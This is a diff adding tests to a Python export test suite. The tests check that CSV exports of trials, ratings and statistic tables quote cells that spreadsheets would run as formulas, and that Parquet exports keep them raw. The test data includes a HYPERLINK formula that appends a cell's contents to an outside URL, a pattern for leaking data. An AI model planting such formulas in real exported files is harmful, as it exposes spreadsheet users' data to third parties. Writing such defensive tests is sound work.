@@ -23,6 +23,7 @@ from llmruns.analysis.exports import (
     encode_jsonl,
     encode_parquet,
 )
+from llmruns.analysis.tables import table_csv
 from tests.ratings.stats_builders import build_rated_campaign, make_trials
 
 AWKWARD_TEXT = 'Line one, with a comma\nline two with "quotes" and 中文，还有逗号'
@@ -158,6 +159,40 @@ def test_rating_export_marks_calibration_units_apart_from_the_campaigns_data(res
     agreement = researcher_api.get(f"/api/v1/campaigns/{rated.campaign.pk}/agreement/").json()
     counted = frame.loc[frame["is_latest"] & ~frame["is_calibration"]]
     assert len(counted) == agreement["n"] == 3
+
+
+FORMULAS = ['=HYPERLINK("http://example.org/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A2)"]
+
+
+@pytest.mark.django_db
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted_and_parquet_keeps_them(
+    researcher_api, rated
+):
+    from llmruns.models import Trial
+    from ratings.models import Rating
+
+    trials = Trial.objects.filter(run=rated.run, kind="work_sample").order_by("pk")
+    for trial, formula in zip(trials, FORMULAS, strict=False):
+        Trial.objects.filter(pk=trial.pk).update(text=formula)
+    Rating.objects.filter(revision=2).update(comment=FORMULAS[0])
+    trials_url = f"/api/v1/runs/{rated.run.pk}/trials/?format="
+    from_csv = pd.read_csv(io.BytesIO(_content(researcher_api.get(trials_url + "csv"))))
+    texts = from_csv.loc[from_csv["kind"] == "work_sample", "text"]
+    assert list(texts) == [f"'{formula}" for formula in FORMULAS[:3]]
+    from_parquet = pd.read_parquet(io.BytesIO(_content(researcher_api.get(trials_url + "parquet"))))
+    assert list(from_parquet.loc[from_parquet["kind"] == "work_sample", "text"]) == FORMULAS[:3]
+    ratings_url = f"/api/v1/campaigns/{rated.campaign.pk}/ratings/?format=csv"
+    ratings = pd.read_csv(io.BytesIO(_content(researcher_api.get(ratings_url))))
+    assert list(ratings.loc[ratings["revision"] == 2, "comment"]) == [f"'{FORMULAS[0]}"]
+
+
+def test_statistic_table_cells_a_spreadsheet_would_run_as_formulas_are_quoted():
+    rows = [{"endpoint": formula, "mean": -0.5} for formula in FORMULAS]
+    lines = table_csv(rows).splitlines()
+    assert [line.rsplit(",", 1)[1] for line in lines[1:]] == ["-0.5"] * 4
+    assert pd.read_csv(io.StringIO(table_csv(rows)))["endpoint"].tolist() == [
+        f"'{formula}" for formula in FORMULAS
+    ]
 
 
 SYNTHETIC_TEXT = "An answer of a typical length for an interest or self-assessment trial. " * 3
